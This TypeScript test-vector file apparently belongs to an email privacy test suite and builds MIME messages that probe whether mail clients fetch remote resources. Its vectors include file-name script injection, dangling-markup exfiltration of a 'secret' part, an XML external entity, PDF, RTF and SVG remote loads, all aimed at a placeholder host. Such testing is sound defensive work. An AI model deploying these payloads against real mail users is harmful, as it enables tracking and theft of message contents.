import { html, page, plain, type Vector } from '../vector.ts';

const SVG_PART =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"><style>rect{fill:url(https://HOST/style)}</style><script href="https://HOST/script"/><image xlink:href="https://HOST/image" width="9" height="9"/><rect width="9" height="9"/></svg>';

const VCARD =
  'BEGIN:VCARD\nVERSION:4.0\nFN:LABEL\nPHOTO;MEDIATYPE=image/jpeg:https://HOST/photo\nLOGO:https://HOST/logo\nSOUND:https://HOST/sound\nKEY:https://HOST/key\nSOURCE:https://HOST/source\nEND:VCARD';

const CALENDAR = [
  'BEGIN:VCALENDAR',
  'VERSION:2.0',
  'METHOD:REQUEST',
  'PRODID:-//leak test//EN',
  'SOURCE;VALUE=URI:https://HOST/source',
  'BEGIN:VEVENT',
  'UID:LABEL',
  'DTSTART:20261105T090000Z',
  'DTEND:20261105T093000Z',
  'SUMMARY:LABEL',
  'DESCRIPTION;ALTREP="https://HOST/altrep":LABEL',
  'ATTACH:https://HOST/attach',
  'IMAGE;VALUE=URI;DISPLAY=BADGE:https://HOST/image',
  'CONFERENCE;VALUE=URI:https://HOST/conference',
  'X-ALT-DESC;FMTTYPE=text/html:<img src="https://HOST/alt-desc">',
  'BEGIN:VALARM',
  'ACTION:AUDIO',
  'TRIGGER:-PT15M',
  'ATTACH;FMTTYPE=audio/basic:https://HOST/alarm',
  'END:VALARM',
  'END:VEVENT',
  'END:VCALENDAR',
].join('\n');

/** E: what stands in the parts of a message, and how the parts are told about each other. */
export const MIME_PARTS: readonly Vector[] = [
  {
    id: 'E01',
    slug: 'cid-stylesheet',
    entity: {
      type: 'multipart/related',
      parts: [
        html('<p class="x">x</p>', '<link rel="stylesheet" href="cid:style@HOST">\n<style>@import url(cid:style@HOST);</style>\n'),
        {
          type: 'text/css',
          content: '@import "https://HOST/1";p{background:url(https://HOST/2)}',
          fields: [
            ['Content-ID', '<style@HOST>'],
            ['Content-Disposition', 'inline'],
          ],
        },
      ],
    },
  },
  {
    id: 'E02',
    slug: 'cid-svg',
    entity: {
      type: 'multipart/related',
      parts: [
        html(
          '<img src="cid:svg@HOST" alt=""><object data="cid:svg@HOST" type="image/svg+xml"></object><iframe src="cid:svg@HOST"></iframe><embed src="cid:svg@HOST">',
        ),
        { type: 'image/svg+xml; name="a.svg"', content: SVG_PART, encoding: 'base64', fields: [['Content-ID', '<svg@HOST>']] },
      ],
    },
  },
  {
    id: 'E03',
    slug: 'script-in-file-name',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        html('x'),
        {
          type: 'image/png',
          content: 'x',
          encoding: 'base64',
          fields: [
            [
              'Content-Disposition',
              'attachment; filename="<img src=https://HOST/1 onerror=this.src=this.alt><script src=https://HOST/2></script>.png"',
            ],
          ],
        },
        {
          type: 'application/pdf',
          content: 'x',
          encoding: 'base64',
          fields: [['Content-Disposition', "attachment; filename*=utf-8''%22%3E%3Cimg%20src%3Dhttps%3A%2F%2FHOST%2F3%3E.pdf"]],
        },
      ],
    },
  },
  {
    id: 'E05',
    slug: 'content-base-location',
    fires: 'client',
    fields: [
      ['Content-Base', '"https://HOST/message/"'],
      ['Content-Location', 'https://HOST/message-location/'],
    ],
    entity: {
      type: 'multipart/related',
      fields: [['Content-Location', 'https://HOST/related/']],
      parts: [
        {
          type: 'text/html',
          content: page('<img src="relative" alt=""><img src="/rooted" alt=""><img src="?query" alt=""><p style="background:url(css)">x</p>'),
          fields: [
            ['Content-Base', '"https://HOST/part/"'],
            ['Content-Location', 'https://HOST/part-location/'],
          ],
        },
      ],
    },
  },
  {
    id: 'E06',
    slug: 'amp-part',
    fires: 'client',
    entity: {
      type: 'multipart/alternative',
      parts: [
        plain(),
        {
          type: 'text/x-amp-html',
          content:
            '<!doctype html><html ⚡4email data-css-strict><head><meta charset="utf-8"><script async src="https://HOST/runtime"></script><style amp4email-boilerplate>body{visibility:hidden}</style></head><body><p>LABEL</p><amp-img src="https://HOST/img" width="9" height="9"></amp-img><amp-list width="9" height="9" src="https://HOST/list"></amp-list><amp-anim src="https://HOST/anim" width="9" height="9"></amp-anim><amp-state src="https://HOST/state"></amp-state></body></html>',
        },
        html('x'),
      ],
    },
  },
  {
    id: 'E07',
    slug: 'calendar-and-vcard',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        { type: 'multipart/alternative', parts: [plain(), html('x'), { type: 'text/calendar; method=REQUEST; charset=utf-8', content: CALENDAR }] },
        { type: 'text/vcard; charset=utf-8', content: VCARD, fields: [['Content-Disposition', 'attachment; filename="who.vcf"']] },
        {
          type: 'text/x-vcard; charset=utf-8',
          content: VCARD.replace('4.0', '3.0').replace('PHOTO;', 'PHOTO;VALUE=uri;'),
          fields: [['Content-Disposition', 'inline']],
        },
      ],
    },
  },
  {
    id: 'E09',
    slug: 'attachment-previews',
    fires: 'act',
    entity: {
      type: 'multipart/mixed',
      parts: [
        html('x'),
        {
          type: 'text/html',
          content: page('<img src="https://HOST/html" alt="">'),
          fields: [['Content-Disposition', 'attachment; filename="report.html"']],
        },
        { type: 'image/svg+xml', content: SVG_PART, fields: [['Content-Disposition', 'attachment; filename="drawing.svg"']] },
        {
          type: 'application/pdf',
          content:
            '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://HOST/pdf)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
          encoding: 'base64',
          fields: [['Content-Disposition', 'attachment; filename="invoice.pdf"']],
        },
        {
          type: 'application/rtf',
          content: '{\\rtf1{\\*\\template https://HOST/rtf-template}{\\field{\\*\\fldinst INCLUDEPICTURE "https://HOST/rtf-picture" \\\\d}}LABEL}',
          fields: [['Content-Disposition', 'attachment; filename="letter.rtf"']],
        },
        {
          type: 'application/xml',
          content:
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "https://HOST/dtd">%e;]><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:docPr><w:attachedTemplate w:val="https://HOST/dotx"/></w:docPr></w:wordDocument>',
          fields: [['Content-Disposition', 'attachment; filename="letter.xml"']],
        },
        {
          type: 'application/internet-shortcut',
          content: '[InternetShortcut]\nURL=https://HOST/\nIconFile=https://HOST/icon',
          fields: [['Content-Disposition', 'attachment; filename="open.url"']],
        },
      ],
    },
  },
  {
    id: 'E11',
    slug: 'decrypted-body',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        html('<img src="https://HOST/before/'),
        {
          type: 'text/plain',
          content: `-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n<html><body>LABEL<img src="https://HOST/1"></body></html>\n-----BEGIN PGP SIGNATURE-----\n\nwsBc\n-----END PGP SIGNATURE-----`,
        },
        {
          type: 'multipart/encrypted; protocol="application/pgp-encrypted"',
          parts: [
            { type: 'application/pgp-encrypted', content: 'Version: 1' },
            { type: 'application/octet-stream', content: '-----BEGIN PGP MESSAGE-----\n\nwcBM\n-----END PGP MESSAGE-----' },
          ],
        },
        { type: 'application/pgp-keys', content: '-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nxsBN\n-----END PGP PUBLIC KEY BLOCK-----' },
      ],
    },
    fields: [
      ['Autocrypt', 'addr=news@HOST; keydata=xsBN'],
      ['OpenPGP', 'id=0123456789ABCDEF; url=https://HOST/key.asc; preference=signencrypt'],
    ],
  },
  {
    id: 'E12',
    slug: 'unclosed-attribute-across-parts',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        { type: 'text/html', content: '<html><body><p>LABEL</p><img src="https://HOST/?stolen=' },
        { type: 'text/html', content: '<html><body><p>The second part is a secret.</p></body></html>' },
        { type: 'text/html', content: '<html><body>"><img src=\'https://HOST/again?' },
        { type: 'text/plain', content: "another secret '>" },
      ],
    },
  },
];
